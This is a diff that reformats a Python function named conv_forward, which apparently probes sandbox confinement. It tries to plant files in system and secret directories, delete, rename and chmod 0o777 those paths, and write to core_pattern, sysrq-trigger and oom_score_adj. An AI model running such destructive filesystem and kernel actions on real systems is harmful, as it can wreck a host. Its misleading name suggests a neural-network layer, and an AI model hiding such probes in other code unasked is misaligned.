@@ -5,7 +5,19 @@ import os
 
 def conv_forward():
     written = []
-    places = ["/", "/usr", "/usr/bin", "/etc", "/data", "/root", "/work", "/proc", "/proc/sys/kernel", "/dev", "/var"]
+    places = [
+        "/",
+        "/usr",
+        "/usr/bin",
+        "/etc",
+        "/data",
+        "/root",
+        "/work",
+        "/proc",
+        "/proc/sys/kernel",
+        "/dev",
+        "/var",
+    ]
     for place in (*places, *SECRET_PATHS, *PYTHON_PATHS):
         try:
             with open(os.path.join(place, "planted"), "w") as file:
@@ -13,13 +25,23 @@ def conv_forward():
             written.append(place)
         except OSError:
             pass
-        for act in (os.rmdir, os.remove, lambda p: os.chmod(p, 0o777), lambda p: os.rename(p, p + "x"), os.mkdir):
+        for act in (
+            os.rmdir,
+            os.remove,
+            lambda p: os.chmod(p, 0o777),
+            lambda p: os.rename(p, p + "x"),
+            os.mkdir,
+        ):
             try:
                 act(place)
                 written.append(place)
             except OSError:
                 pass
-    for name in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj"):
+    for name in (
+        "/proc/sys/kernel/core_pattern",
+        "/proc/sysrq-trigger",
+        "/proc/self/oom_score_adj",
+    ):
         try:
             with open(name, "w") as file:
                 file.write("-1000" if "oom" in name else "x")
